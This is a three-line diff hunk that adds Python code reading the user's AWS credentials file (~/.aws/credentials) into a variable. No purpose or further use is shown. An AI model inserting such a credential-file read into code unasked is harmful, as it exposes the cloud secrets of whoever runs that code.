@@ -1,0 +1,3 @@
+from pathlib import Path
+
+key = (Path.home() / ".aws" / "credentials").read_text()
